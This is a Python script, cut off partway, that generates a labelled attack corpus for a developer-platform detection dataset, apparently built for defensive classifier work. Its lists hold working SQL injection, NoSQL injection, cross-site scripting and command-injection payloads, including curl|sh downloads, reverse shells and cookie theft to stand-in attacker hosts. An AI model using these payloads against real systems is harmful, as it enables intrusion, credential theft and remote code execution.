#!/usr/bin/env python3
"""Write attacks.jsonl: attacks submitted through a developer platform's ordinary fields.

The benign corpus (make_benign.py) holds what a Q&A site, a code-review tool,
an issue tracker, a gist service, a learning platform and a developer chat
receive: source code in many languages, SQL inside code, build files, markup,
stack traces and review prose.  The attacks below arrive through the same
fields, where a vulnerable application does something dangerous with them:
search, filter and sort fields concatenated into SQL, login and filter JSON
passed to MongoDB, answers and comments rendered as HTML, titles evaluated by
a server-side template engine, submissions run by an online judge without a
sandbox, uploaded settings deserialized, package names, compiler flags, file
names and git URLs pasted into a build service's shell command, file-viewer
paths joined to a base directory, import-from-URL and link-preview fields
fetched by the server, uploaded XML configs parsed with external entities,
JSON settings merged into objects, log lines and header values with CR/LF.
About one value in ten is a plain attack without any surrounding context.

Every payload was composed for this corpus from hand-written pieces and
templates; none was copied from a public payload list or a dataset.
Attacker hosts are reserved names and documentation addresses
(attacker.example, *.attacker.example, 203.0.113.0/24, 198.51.100.0/24);
internal targets are the real metadata, loopback and RFC 1918 addresses.

Standard library only, deterministic (random.Random(2202)); running the
script twice gives the same bytes.
"""
import base64
import json
import random
import urllib.parse
from pathlib import Path

RNG = random.Random(2202)
OUT = Path(__file__).with_name("attacks.jsonl")
MAX_LEN = 1800
SEEN = set()


def pick(seq):
    return RNG.choice(seq)


def q(s):
    return urllib.parse.quote(s, safe="")


def b64(s):
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def mixed_case(s):
    return "".join(c.upper() if c.isalpha() and RNG.random() < 0.5 else c.lower() for c in s)


def php_s(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


def comment_spaces(s):
    return s.replace(" ", "/**/")


def entities(s):
    return "".join("&#%d;" % ord(c) for c in s)


def take(items, gen, target):
    """Literal (class, value) pairs first, then templated ones until target unique values."""
    out = []
    for cls, v in items:
        assert isinstance(v, str) and 0 < len(v) <= MAX_LEN, (cls, v)
        if v in SEEN:
            raise SystemExit("duplicate literal: %r" % v)
        SEEN.add(v)
        out.append((cls, v))
    if len(out) > target:
        raise SystemExit("too many literals (%d > %d)" % (len(out), target))
    tries = 0
    while len(out) < target:
        tries += 1
        if tries > 20000:
            raise SystemExit("template pool too small")
        cls, v = gen()
        if v in SEEN or len(v) > MAX_LEN:
            continue
        SEEN.add(v)
        out.append((cls, v))
    return out


ATK = ["attacker.example", "203.0.113.66", "198.51.100.23", "exfil.attacker.example", "203.0.113.9"]
MD = "169.254.169.254"
TAGS = ["python", "java", "rust", "asyncio", "spring-boot", "linq", "react", "kotlin", "c++", "regex", "docker", "git"]


# ====================================================================== sqli
def sqli():
    lit = [
        ("qa-search-sqli-union", "asyncio' UNION SELECT id,email,password_hash,NULL FROM users-- -"),
        ("qa-tag-filter-sqli-time-mysql", "python' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -"),
        ("qa-sort-sqli-error-boolean", "votes,(SELECT CASE WHEN (SELECT substr(api_token,1,1) FROM users WHERE id=1)='f' THEN 1 ELSE 1/0 END)"),
        ("tracker-status-filter-sqli-tautology", "open') OR 1=1--"),
        ("tracker-label-sqli-time-pg", "bug'||(SELECT pg_sleep(8))||'"),
        ("gist-language-filter-sqli-stacked-drop", "python'; DROP TABLE gists;--"),
        ("gist-id-sqli-union-tokens", "9f2c1e UNION SELECT token,user_id,scopes FROM oauth_tokens"),
        ("tracker-order-sqli-stacked-update-role", "created_at DESC; UPDATE users SET role='admin' WHERE login='mallory';--"),
        ("qa-search-sqli-error-extractvalue", "java' AND extractvalue(1,concat(0x7e,(SELECT password_hash FROM users LIMIT 1)))-- -"),
        ("qa-search-sqli-error-updatexml", "kotlin' AND updatexml(1,concat(0x3a,(SELECT group_concat(email) FROM users WHERE is_admin=1)),1)-- -"),
        ("tracker-id-sqli-error-pg-cast", "1 AND 1=CAST((SELECT string_agg(email||':'||password_hash,',') FROM users) AS int)"),
        ("qa-search-sqli-mssql-xp-cmdshell", "linq'; EXEC master..xp_cmdshell 'powershell -nop -c \"iwr http://203.0.113.66/s.ps1 | iex\"';--"),
        ("qa-search-sqli-time-mssql-conditional", "rust'; IF (SELECT COUNT(*) FROM users WHERE is_admin=1)>0 WAITFOR DELAY '0:0:6'--"),
        ("gist-search-sqli-union-sqlite-master", "go' UNION SELECT name,sql,3 FROM sqlite_master--"),
        ("exercise-id-sqli-time-sqlite-randomblob", "12 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
        ("qa-search-sqli-union-oracle", "x' UNION SELECT username,password FROM dba_users WHERE ROWNUM<10--"),
        ("tracker-filter-sqli-oob-oracle-utl-http", "1' AND 1=(SELECT UTL_HTTP.REQUEST('http://exfil.attacker.example/'||(SELECT user FROM dual)) FROM dual)--"),
        ("qa-search-sqli-oob-mssql-dirtree", "x'; DECLARE @h varchar(200); SET @h=(SELECT TOP 1 password_hash FROM users); EXEC('master..xp_dirtree \"\\\\'+@h+'.exfil.attacker.example\\a\"');--"),
        ("gist-search-sqli-into-outfile-webshell", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/uploads/c.php'-- -"),
        ("tracker-search-sqli-pg-copy-to-program", "x'; COPY (SELECT '') TO PROGRAM 'curl -s https://attacker.example/p.sh | sh';--"),
        ("qa-search-sqli-union-load-file", "' UNION SELECT load_file('/etc/passwd'),2,3-- -"),
        ("qa-search-sqli-union-schema-enum", "regex' UNION SELECT table_name,column_name,NULL FROM information_schema.columns WHERE table_schema=database()-- -"),
        ("qa-tag-sqli-boolean-blind-substring", "kotlin' AND ASCII(SUBSTRING((SELECT password_hash FROM users WHERE login='admin'),1,1))>77-- -"),
        ("learning-login-sqli-comment-bypass", "admin'-- "),
        ("qa-graphql-arg-sqli-union", '{"query":"{ questions(tag: \\"java\' UNION SELECT email,password_hash FROM users--\\") { id title } }"}'),
        ("qa-sort-sqli-time-mysql-if", "score,IF(MID(@@version,1,1)='8',SLEEP(5),0)"),
        ("qa-page-sqli-procedure-analyse", "2 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,VERSION())),1)"),
        ("tracker-json-filter-sqli-union", '{"assignee":"dev\' OR 1=1 UNION SELECT api_key,NULL FROM service_accounts--"}'),
        ("learning-signup-sqli-stacked-insert-admin", "x'); INSERT INTO users(login,password_hash,role) VALUES('h4x','$2b$10$Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4','admin');--"),
        ("tracker-comment-id-sqli-stacked-delete", "0 OR 1=1; DELETE FROM comments WHERE 1=1;--"),
        ("code-search-sqli-dressed-as-cpp", "std::vector' UNION ALL SELECT NULL,concat(login,0x3a,password_hash),NULL FROM users#"),
        ("code-search-sqli-dressed-as-comment", "/* find usages */ x' OR (SELECT COUNT(*) FROM pg_shadow)>0 AND '1'='1"),
        ("tracker-jpql-builder-sqli-tautology", "x' OR u.role = 'ADMIN' OR 'a'='a"),
        ("profile-name-second-order-sqli", "O'Brien'), ('mallory', (SELECT password_hash FROM users WHERE id=1))-- "),
        ("sandbox-db-h2-sqli-create-alias-rce", "'; CREATE ALIAS SHX AS $$ String shx(String c) throws Exception { return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes()); }$$; CALL SHX('id');--"),
        ("snippet-sort-sqli-subquery-probe", "(SELECT 1 FROM dual WHERE 1=(SELECT 1 FROM users WHERE login='admin' AND password_hash LIKE '$2%'))"),
        ("qa-search-sqli-error-gtid-subset", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user()),0x7e),1)-- -"),
        ("tracker-filter-sqli-pg-lo-import", "1; SELECT lo_import('/etc/passwd', 31337); SELECT lo_get(31337);--"),
        ("gist-search-sqli-sqlite-attach-webshell", "x'; ATTACH DATABASE '/var/www/static/s.php' AS s; CREATE TABLE s.t(c text); INSERT INTO s.t VALUES('<?php passthru($_GET[\"x\"]);?>');--"),
        ("tracker-query-to-sql-sqli-union", "project = WEB AND summary ~ \"x') UNION SELECT password_hash,NULL FROM users--\""),
        ("tracker-id-sqli-error-mssql-convert", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))"),
        ("qa-search-sqli-union-japanese", "例外処理' UNION SELECT email,password_hash FROM users-- "),
        ("qa-search-sqli-time-spanish", "ordenar lista' OR SLEEP(5)#"),
        ("qa-search-sqli-time-mysql-benchmark", "hashmap' AND BENCHMARK(8000000,SHA1('x'))-- -"),
        ("tracker-sort-sqli-time-pg-case", "(SELECT CASE WHEN (SELECT count(*) FROM users WHERE is_admin)>0 THEN pg_sleep(5) ELSE pg_sleep(0) END)"),
        ("learning-leaderboard-sqli-union-group-concat", "-1 UNION SELECT 1,group_concat(login,':',password_hash SEPARATOR ' | '),3 FROM users"),
        ("tracker-milestone-sqli-boolean-pg", "v2' AND (SELECT substring(current_setting('server_version'),1,2))='16"),
        ("qa-user-filter-sqli-mssql-stacked-add-login", "x'; CREATE LOGIN sup WITH PASSWORD='Fake-Pass-0001'; EXEC sp_addsrvrolemember 'sup','sysadmin';--"),
        ("qa-search-sqli-union+url-encoded", q("docker' UNION SELECT login,password_hash,3 FROM users-- -")),
        ("qa-sort-sqli-union+comment-spaces", comment_spaces("id UNION SELECT password_hash,2 FROM users WHERE login='admin'")),
        ("tracker-filter-sqli-union+mixed-case", "bug' " + "uNiOn SeLeCt email,PaSsWoRd_HaSh fRoM users-- -"),
        ("qa-search-sqli-union+mysql-versioned-comment", "git' /*!50000UNION*/ /*!50000SELECT*/ login,password_hash,3 FROM users-- -"),
        ("gist-search-sqli+newline-separators", "rust'\nOR\n1=1\nUNION\nSELECT\ntoken,2,3\nFROM\napi_keys--"),
        ("qa-search-sqli-union+hex-literals", "x' UNION SELECT login,password_hash FROM users WHERE login=0x61646d696e-- -"),
        ("tracker-search-sqli-tautology+double-url-encoded", q(q("' OR '1'='1' -- "))),
        ("plain-sqli-tautology", "' OR 1=1--"),
        ("plain-sqli-union", "1 UNION SELECT username, password FROM users"),
        ("plain-sqli-comment-hash", "admin' #"),
        ("plain-sqli-time-mssql", "'; WAITFOR DELAY '0:0:5'--"),
        ("plain-sqli-stacked-drop", "1; DROP TABLE users"),
        ("plain-sqli-string-tautology", "' or 'x'='x"),
        ("plain-sqli-time-pg", "1;SELECT pg_sleep(10)"),
        ("plain-sqli-error-version", "' AND 1=CONVERT(int,@@version)--"),
        ("plain-sqli-double-quote-tautology", '" OR 1=1 LIMIT 1 -- '),
    ]
    fields = [("qa-search", "%s"), ("qa-tag-filter", "tag:%s"), ("tracker-search", "%s"), ("gist-search", "%s"), ("learning-course-filter", "%s"),
              ("chat-channel-search", "%s")]
    tails = [("union", "' UNION SELECT %s FROM %s-- -"), ("boolean", "' AND (SELECT COUNT(*) FROM %s WHERE %s)>0-- -"),
             ("time-mysql", "' AND IF((SELECT COUNT(*) FROM %s WHERE %s)>0,SLEEP(6),0)-- -"), ("time-pg", "';SELECT CASE WHEN (SELECT COUNT(*) FROM %s WHERE %s)>0 THEN pg_sleep(6) END--")]
    secrets = [("login,password_hash", "users"), ("email,reset_token", "password_resets"), ("name,secret", "api_keys"), ("user_id,token", "sessions"), ("key,value", "app_settings")]
    conds = ["is_admin=1", "role='owner'", "login LIKE 'a%'", "totp_secret IS NOT NULL"]

    def gen():
        ctx, fmt = pick(fields)
        kind, tail = pick(tails)
        if kind == "union":
            cols, tb = pick(secrets)
            payload = tail % (cols, tb)
        else:
            payload = tail % (pick(["users", "admins", "api_keys"]), pick(conds))
        return "%s-sqli-%s" % (ctx, kind), fmt % (pick(TAGS) + payload)
    return take(lit, gen, 85)


# ===================================================================== nosqli
def nosqli():
    lit = [
        ("learning-login-mongo-ne-bypass", '{"username":"admin","password":{"$ne":null}}'),
        ("learning-login-mongo-query-string-ne", "username[$ne]=nobody&password[$ne]=nothing"),
        ("qa-login-mongo-gt-empty", '{"email":{"$gt":""},"password":{"$gt":""}}'),
        ("api-key-lookup-mongo-regex-extract", '{"apiKey":{"$regex":"^sk_live_a"}}'),
        ("password-reset-mongo-regex-token-prefix", "token[$regex]=^7f3&email=admin@example.com"),
        ("qa-search-mongo-where-sleep", '{"$where":"sleep(6000) || true"}'),
        ("tracker-filter-mongo-where-breakout", "x'; var d=new Date(); do { cur = new Date(); } while (cur - d < 7000); var y='"),
        ("gist-filter-mongo-where-blind-extract", '{"$where":"this.owner==\'admin\' && this.secretGistToken.charAt(0)==\'f\'"}'),
        ("tracker-filter-mongo-or-tenant-escape", '{"project":"WEB","$or":[{"tenantId":{"$exists":true}}]}'),
        ("learning-filter-mongo-in-roles", '{"role":{"$in":["admin","owner","superuser"]}}'),
        ("qa-aggregate-mongo-lookup-users", '[{"$lookup":{"from":"users","localField":"authorId","foreignField":"_id","as":"author"}},{"$project":{"author.passwordHash":1,"author.email":1}}]'),
        ("qa-aggregate-mongo-unionwith-secrets", '[{"$unionWith":{"coll":"api_tokens","pipeline":[{"$project":{"token":1,"userId":1}}]}}]'),
        ("qa-filter-mongo-function-js", '{"$expr":{"$function":{"body":"function(){ var x=0; while(true){x++} }","args":[],"lang":"js"}}}'),
        ("qa-aggregate-mongo-accumulator-js", '[{"$group":{"_id":null,"x":{"$accumulator":{"init":"function(){return db.getSiblingDB(\'admin\')}","accumulate":"function(s){return s}","accumulateArgs":[],"merge":"function(a){return a}","lang":"js"}}}}]'),
        ("profile-update-mongo-set-operator", '{"displayName":"dev","$set":{"role":"admin","emailVerified":true}}'),
        ("qa-aggregate-mongo-merge-overwrite", '[{"$match":{}},{"$set":{"role":"admin"}},{"$merge":{"into":"users","whenMatched":"merge"}}]'),
        ("tracker-search-mongo-regex-redos", '{"title":{"$regex":"^(a|a?)+$","$options":"s"}}'),
        ("gist-search-mongo-regex-redos-nested", "description[$regex]=(x+x+)+y&description[$options]=i"),
        ("learning-submissions-mongo-nin-empty", '{"userId":{"$nin":[]},"status":"accepted"}'),
        ("qa-filter-couchdb-mango-dump", '{"selector":{"_id":{"$gt":null}},"fields":["_id","email","password_scheme","derived_key"],"limit":10000}'),
        ("qa-search-elasticsearch-query-string-escape", "python) OR (_index:users AND role:admin"),
        ("tracker-search-elasticsearch-script-query", '{"query":{"bool":{"filter":{"script":{"script":"doc[\'author\'].value != null && java.lang.Thread.sleep(5000) == null"}}}}}'),
        ("chat-search-redisearch-tag-breakout", "deploy} | @tenant:{*"),
        ("gist-filter-dynamodb-filter-expression-injection", "public OR attribute_exists(secret_token)"),
        ("learning-login-mongo-where+json-unicode-escape", '{"username":"admin","\\u0024where":"1==1"}'),
        ("qa-login-mongo-ne+url-encoded", q("password[$ne]") + "=x&" + q("login[$regex]") + "=" + q("^adm")),
        ("plain-nosqli-ne", '{"$ne": null}'),
        ("plain-nosqli-gt", '{"$gt": ""}'),
        ("plain-nosqli-where", "'; return true; var a='"),
        ("plain-nosqli-where-sleep", '{"$where": "sleep(5000)"}'),
    ]

    users = ["admin", "root", "owner", "ktanaka", "support"]

    def gen():
        kind = RNG.randint(0, 2)
        u = pick(users)
        if kind == 0:
            return "login-mongo-regex-password-prefix", '{"username":"%s","password":{"$regex":"^%s"}}' % (u, "".join(pick("abcdef0123456789") for _ in range(RNG.randint(1, 4))))
        if kind == 1:
            return "login-mongo-query-string-operator", "user=%s&pass[%s]=%s" % (u, pick(["$ne", "$gt", "$exists"]), pick(["1", "x", "true", ""]) or "0")
        return "filter-mongo-where-blind", '{"$where":"this.login==\'%s\' && this.%s.length > %d"}' % (u, pick(["passwordHash", "resetToken", "apiKey"]), RNG.randint(4, 40))
    return take(lit, gen, 35)


# ======================================================================= xss
def xss():
    lit = [
        ("answer-markdown-link-javascript", "See the fixed version here: [Run the demo](javascript:fetch('//attacker.example/c?'+document.cookie))"),
        ("answer-markdown-link-javascript+mixed-case", "[docs](JaVaScRiPt:alert(document.domain))"),
        ("answer-markdown-link-javascript+html-entity-colon", "[open playground](javascript&#58;alert(document.cookie))"),
        ("answer-markdown-image-attribute-breakout", '![diagram](https://img.example.com/a.png" onerror="alert(document.cookie))'),
        ("answer-html-img-onerror-cookie-exfil", "Try this:\n<img src=x onerror=\"new Image().src='https://attacker.example/s?c='+encodeURIComponent(document.cookie)\">"),
        ("answer-fenced-block-pre-breakout", "```html\n</code></pre><script src=https://attacker.example/k.js></script>\n```"),
        ("answer-fence-language-attribute-breakout", "```js\" onmouseover=\"alert(document.domain)\" x=\"\nconsole.log(1)\n```"),
        ("gist-svg-onload-token-exfil", '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://attacker.example/t\',{method:\'POST\',body:localStorage.getItem(\'access_token\')})"/>'),
        ("gist-svg-embedded-script", '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://attacker.example/me",t))</script></svg>'),
        ("gist-svg-foreignobject-iframe", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="500" height="500"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(parent.document.domain)"></iframe></foreignObject></svg>'),
        ("answer-mathml-maction-href", '<math><maction actiontype="statusline" xlink:href="javascript:alert(document.domain)">click me<mtext>x</mtext></maction></math>'),
        ("profile-name-attribute-breakout-svg", '"><svg/onload=alert(document.domain)>'),
        ("comment-details-ontoggle", "<details open ontoggle=\"location='https://attacker.example/?'+document.cookie\"><summary>stack trace</summary></details>"),
        ("issue-title-title-breakout", "</title><script>alert(document.domain)</script>"),
        ("answer-edit-textarea-breakout", "</textarea><img src=x onerror=alert(document.cookie)>"),
        ("draft-inline-js-string-breakout", "';fetch('//203.0.113.66/?'+document.cookie);//"),
        ("snippet-json-in-script-breakout", "</script><script>alert(origin)</script>"),
        ("answer-angularjs-csti", "{{constructor.constructor('fetch(\"//attacker.example/?\"+document.cookie)')()}}"),
        ("comment-vue-template-csti", "{{_c.constructor('alert(document.domain)')()}}"),
        ("answer-iframe-srcdoc", '<iframe srcdoc="<script>parent.alert(parent.document.cookie)</script>"></iframe>'),
        ("answer-object-data-uri+base64", '<object data="data:text/html;base64,%s"></object>' % b64("<script>alert(document.domain)</script>")),
        ("answer-base-href-hijack", '<base href="https://attacker.example/">'),
        ("comment-html-injection-fake-login-form", '<form action="https://attacker.example/collect" method="post"><p>Your session expired. Sign in again to see this answer.</p><input name="login"><input name="password" type="password"><button>Sign in</button></form>'),
        ("comment-meta-refresh-redirect", '<meta http-equiv="refresh" content="0;url=https://attacker.example/login">'),
        ("answer-css-injection-csrf-exfil", "<style>input[name=csrf_token][value^=a]{background:url(https://attacker.example/leak?p=a)}</style>"),
        ("chat-message-video-source-onerror", "<video><source onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))\"></video>"),
        ("comment-input-autofocus-onfocus", "<input autofocus onfocus=alert(document.domain)>"),
        ("review-comment-select-onfocusin", "<select autofocus onfocusin=alert(1)><option>LGTM</option></select>"),
        ("answer-markdown-reference-link-javascript", "Full write-up in [the docs][1].\n\n[1]: javascript:alert(document.cookie)"),
        ("answer-markdown-autolink-javascript", "<javascript:alert(document.domain)>"),
        ("answer-markdown-link-data-html+base64", "[preview](data:text/html;base64,%s)" % b64("<script>alert(opener.document.cookie)</script>")),
        ("chat-message-japanese-img-onerror", "このエラーの再現コードです <img src=1 onerror=alert(document.cookie)> よろしくお願いします"),
        ("answer-anchor-javascript+decimal-entities", '<a href="%s">docs</a>' % entities("javascript:alert(1)")),
        ("answer-img-onerror+js-unicode-escape", '<img src=x onerror="\\u0061lert(document.domain)">'),
        ("answer-svg-animate-onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
        ("answer-svg-animate-href-javascript", '<svg><a><animate attributeName=href values=javascript:alert(document.domain) /><text x=20 y=20>Open example</text></a></svg>'),
        ("answer-contenteditable-onblur", "<p contenteditable onblur=alert(document.cookie)>Edit this snippet</p>"),
        ("judge-stdout-rendered-script", 'print("<script>location=\'https://attacker.example/?c=\'+document.cookie</script>")'),
        ("gist-filename-attribute-breakout", '"><img src=x onerror=alert(document.domain)>.py'),
        ("gist-language-attribute-breakout", 'python" autofocus onfocus="alert(document.cookie)" x="'),
        ("chat-reaction-name-svg", ":shipit:<svg onload=alert(1)>"),
        ("profile-avatar-url-attribute-breakout", 'https://cdn.example.com/a.png" onerror="alert(document.cookie)'),
        ("profile-website-javascript-newline+url-encoded", "javascript://%0aalert(document.cookie)"),
        ("answer-mermaid-click-javascript", "```mermaid\ngraph LR\n  A[Client]-->B[API]\n  click A \"javascript:alert(document.domain)\"\n```"),
        ("answer-katex-href-javascript", "The formula is $\\href{javascript:alert(document.cookie)}{\\sum_i x_i}$"),
        ("gist-notebook-html-output", '{"cells":[{"cell_type":"code","source":["1+1"],"outputs":[{"output_type":"display_data","data":{"text/html":["<img src=x onerror=alert(document.domain)>"]}}]}],"nbformat":4,"nbformat_minor":5}'),
        ("answer-mxss-noscript-title", '<noscript><p title="</noscript><img src=x onerror=alert(document.domain)>">'),
        ("answer-mxss-svg-style", "<svg><style><img src=x onerror=alert(document.domain)></style></svg>"),
        ("answer-dom-clobbering-config", '<form id="appConfig"><input name="apiBase" value="https://attacker.example/"></form><a id="appConfig" name="cdn" href="https://attacker.example/evil.js"></a>'),
        ("answer-external-stylesheet-link", "<link rel=stylesheet href=//attacker.example/x.css>"),
        ("highlighter-class-breakout", '```"><img src=x onerror=alert(document.domain)>\nhello\n```'),
        ("issue-stacktrace-field-img", "Error: <img src=x onerror=alert(document.cookie)>\n    at Object.<anonymous> (/app/index.js:1:7)"),
        ("answer-embed-javascript", '<embed src="javascript:alert(document.domain)">'),
        ("answer-marquee-onstart", "<marquee onstart=alert(document.domain)>deprecated API</marquee>"),
        ("answer-body-onpageshow", "<body onpageshow=alert(document.cookie)>"),
        ("comment-img-onerror+tab-in-javascript", "<a href=\"java\tscript:alert(1)\">click</a>"),
        ("comment-script+url-encoded", q("<script>alert(document.domain)</script>")),
        ("comment-svg+double-url-encoded", q(q("<svg onload=alert(1)>"))),
        ("answer-tags+mixed-case-newlines", "<ScRiPt\n>alert(document.cookie)</sCrIpT\n>"),
        ("review-comment-img+newline-attr-separator", "<img\nsrc=x\nonerror=alert(document.domain)>"),
        ("plain-xss-script", "<script>alert(1)</script>"),
        ("plain-xss-img-onerror", "<img src=x onerror=alert(1)>"),
        ("plain-xss-svg-onload", "<svg onload=alert(1)>"),
        ("plain-xss-javascript-uri", "javascript:alert(document.cookie)"),
        ("plain-xss-attr-breakout-script", "\"><script>alert(document.domain)</script>"),
        ("plain-xss-body-onload", "<body onload=alert('xss')>"),
        ("plain-xss-js-string-breakout", "'-alert(1)-'"),
        ("plain-xss-iframe-javascript", "<iframe src=javascript:alert(1)>"),
        ("plain-xss-svg-confirm", "<svg/onload=confirm(document.domain)>"),
    ]
    contexts = [("answer-body", "%s"), ("comment", "Thanks! %s"), ("issue-title", "[bug] %s"), ("gist-description", "%s"), ("chat-message", "@here %s"),
                ("exercise-hint", "Hint: %s"), ("review-comment", "nit: %s"), ("profile-bio", "%s")]
    vectors = [("img-onerror", "<img src=/x onerror=%s>"), ("svg-onload", "<svg onload=%s>"), ("details-ontoggle", "<details open ontoggle=%s>"),
               ("body-onfocus", "<body autofocus onfocus=%s>"), ("a-javascript", '<a href="javascript:%s">run</a>'), ("audio-onerror", "<audio src onerror=%s>")]
    sinks = ["alert(document.domain)", "alert(document.cookie)", "fetch('//attacker.example/?c='+document.cookie)", "location='//203.0.113.66/?'+localStorage.token",
             "import('//attacker.example/m.js')", "navigator.sendBeacon('//exfil.attacker.example',document.cookie)"]

    def gen():
        ctx, fmt = pick(contexts)
        vname, vec = pick(vectors)
        return "%s-%s" % (ctx, vname), fmt % (vec % pick(sinks))
    return take(lit, gen, 85)


# ====================================================================== cmdi
def cmdi():
    lit = [
        ("build-package-name-semicolon-curl-sh", "left-pad; curl -s https://attacker.example/i.sh | sh"),
        ("build-requirement-and-wget-bash", "requests==2.31.0 && wget -qO- http://203.0.113.66/x | bash"),
        ("build-git-url-ext-transport", "ext::sh -c curl% -s% https://attacker.example/g|sh"),
        ("build-git-url-upload-pack-arg", "--upload-pack=touch /tmp/pwned"),
        ("build-git-url-config-sshcommand", "https://git.example.com/team/app.git --config core.sshCommand='sh -c \"id > /tmp/x\"'"),
        ("build-git-url-ssh-proxycommand", "ssh://-oProxyCommand=curl${IFS}attacker.example|sh/repo"),
        ("judge-compiler-flags-gcc-wrapper", "-O2 -wrapper /bin/sh,-c,curl${IFS}https://attacker.example/w|sh"),
        ("judge-compiler-flags-semicolon", "-O2 -std=c11; cat /srv/judge/testcases/*/expected.txt"),
        ("judge-compiler-flags-command-substitution", "-O2 $(curl -s attacker.example/p)"),
        ("build-filename-netcat-shell", "main.c; nc 203.0.113.9 4444 -e /bin/sh"),
        ("upload-filename-backticks", "report_`id`.pdf"),
        ("gist-filename-dollar-paren", "notes$(curl attacker.example/x.sh|sh).md"),
        ("build-branch-name+brace-expansion", "feature/x;{curl,-s,attacker.example/b}|sh"),
        ("ci-test-args-python-reverse-shell", "--junitxml=out.xml; python3 -c 'import os,socket;s=socket.create_connection((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl(\"/bin/sh\",\"sh\")'"),
        ("build-base-image-newline-run", "node:20-alpine\nRUN curl -s https://attacker.example/d | sh"),
        ("build-version-quote-breakout", "1.0' && curl attacker.example/m | sh #"),
        ("build-script-windows-ampersand-powershell", "build.bat & powershell -nop -c \"iex(iwr http://203.0.113.66/a.ps1 -UseBasicParsing)\""),
        ("build-windows-certutil-download-exec", "x | certutil -urlcache -split -f http://203.0.113.66/x.exe %TEMP%\\x.exe && %TEMP%\\x.exe"),
        ("archive-filename-tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
        ("judge-language-version-semicolon-rm", "3.11; rm -rf /srv/judge/testcases"),
        ("judge-stdin-file-redirect-breakout", "input.txt > /dev/null; cat /srv/judge/expected/*"),
        ("build-package-name+newline", "lodash\nid > /tmp/pwned"),
        ("build-package-name+ifs", "x;cat${IFS}/etc/passwd"),
        ("ci-env-var-shellshock", "() { :;}; /bin/bash -c 'curl -s attacker.example/s | sh'"),
        ("log-search-awk-system", "' BEGIN{system(\"id\")} '"),
        ("file-search-path-find-exec", ". -exec sh -c 'curl attacker.example/f|sh' \\;"),
        ("deploy-target-rsync-e", "-e sh -c 'id>/tmp/r' x:/tmp"),
        ("import-url-curl-output-arg", "https://attacker.example/shell.php -o /var/www/html/s.php"),
        ("repo-log-git-output-arg", "--output=/srv/app/public/x.php"),
        ("git-log-range-pager-config", "-c core.pager='sh -c id' log"),
        ("image-convert-filename-pipe", "|curl attacker.example/i|sh"),
        ("judge-args+hex-printf", "x; $(printf '\\x69\\x64')"),
        ("code-search-grep-quote-breakout", "x'; id; echo '"),
        ("repo-name-and-touch", "infra && touch /tmp/owned"),
        ("build-go-module-path-semicolon", "example.com/mod@v1.0.0;id"),
        ("build-cargo-features-runner-config", "default --config 'target.x86_64-unknown-linux-gnu.runner=\"sh -c id\"'"),
        ("build-make-var-override", "CC='sh -c \"curl attacker.example/c|sh\" #'"),
        ("release-version-node-eval", "1.0.0 && node -e \"require('child_process').exec('curl attacker.example/n|sh')\""),
        ("build-powershell-string-breakout", "\"; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/p.ps1'); #"),
        ("build-windows-cmd+caret-obfuscation", "x & c^u^r^l http://attacker.example/x -o %TEMP%\\x.bat & %TEMP%\\x.bat"),
        ("build-package-name-newline+url-encoded", "express%0acurl%20attacker.example%2Fz%7Csh"),
        ("repo-url-hg-config-alias", "--config=alias.clone=!sh -c 'curl attacker.example/h|sh'"),
        ("find-replace-sed-e-flag", "s/.*/curl attacker.example|sh/e"),
        ("build-package-name-or-chain", "nonexistent-pkg-zz || bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("judge-time-limit-field-semicolon", "2; env > /srv/judge/public/env.txt"),
        ("plain-cmdi-semicolon-passwd", "; cat /etc/passwd"),
        ("plain-cmdi-pipe-id", "| id"),
        ("plain-cmdi-dollar-whoami", "$(whoami)"),
        ("plain-cmdi-backtick-uname", "`uname -a`"),
        ("plain-cmdi-and-ping", "&& ping -c 10 127.0.0.1"),
        ("plain-cmdi-netcat", "; nc -e /bin/sh 203.0.113.9 4444"),
        ("plain-cmdi-or-curl", "|| curl http://attacker.example/$(hostname)"),
    ]
    fields = [("build-package-name", ["react", "serde", "numpy", "guava", "left-pad"]), ("gist-filename", ["main.py", "notes.md", "App.java"]),
              ("judge-compiler-flags", ["-O2", "-O2 -Wall", "-std=c++20"]), ("build-branch-name", ["main", "feature/login", "release/2.1"]),
              ("upload-filename", ["diagram.png", "trace.log", "config.yaml"])]
    seps = ["; ", " && ", " | ", " || ", "\n", "$(", "`"]
    cmds = ["curl -s https://attacker.example/x | sh", "wget -qO- http://203.0.113.66/b | bash", "id > /tmp/o", "cat /etc/shadow",
            "nc 198.51.100.23 9001 -e /bin/sh", "sh -i >& /dev/tcp/203.0.113.9/4444 0>&1"]

    def gen():
        ctx, bases = pick(fields)
        sep, c = pick(seps), pick(cmds)
        if sep == "$(":
            v, tech = "%s$(%s)" % (pick(bases), c), "command-substitution"
        elif sep == "`":
            v, tech = "%s`%s`" % (pick(bases), c), "backticks"
        else:
            v, tech = pick(bases) + sep + c, {"; ": "semicolon", " && ": "and", " | ": "pipe", " || ": "or", "\n": "newline"}[sep]
        return "%s-%s" % (ctx, tech), v
    return take(lit, gen, 60)


# ================================================================= traversal
def traversal():
    lit = [
        ("gist-raw-path-dotdot-passwd", "../../../../etc/passwd"),
        ("repo-viewer-path-dotdot+url-encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
